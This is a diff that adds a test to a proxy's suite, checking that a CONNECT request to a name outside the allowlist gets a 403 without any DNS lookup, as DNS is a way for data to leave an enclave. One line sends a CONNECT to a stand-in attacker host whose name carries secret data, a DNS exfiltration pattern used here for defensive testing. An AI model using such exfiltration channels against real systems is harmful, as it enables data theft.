@@ -364,3 +364,23 @@ def test_a_reload_applies_a_new_allowlist_to_the_next_request(routed, tmp_path):
         client.sendall(f"CONNECT 127.0.0.1:{target.port} HTTP/1.1\r\n\r\n".encode())
         assert recv_all(client).startswith(b"HTTP/1.1 403 ")
     assert target.accepted == 0
+
+
+def test_a_name_no_entry_names_is_refused_without_a_dns_query(routed, monkeypatch):
+    """DNS is a way out of an enclave: a request must not make the parent look up names of the enclave's choosing."""
+    asked = []
+    real = gevent.socket.getaddrinfo
+
+    def recording(host, *args, **kwargs):
+        asked.append(host)
+        return real(host, *args, **kwargs)
+
+    monkeypatch.setattr(gevent.socket, "getaddrinfo", recording)
+    (address,), target, _ = routed(["mode: http-connect"])
+    with connect(address) as client:
+        client.sendall(f"CONNECT secret-data.attacker.example:{target.port} HTTP/1.1\r\n\r\n".encode())
+        assert recv_all(client).startswith(b"HTTP/1.1 403 ")
+    with connect(address) as client:  # a name that an entry names is looked up, as it must be
+        client.sendall(f"CONNECT localhost:{target.port} HTTP/1.1\r\n\r\n".encode())
+        assert http_reply(client) == HTTP_200
+    assert "secret-data.attacker.example" not in asked and "localhost" in asked
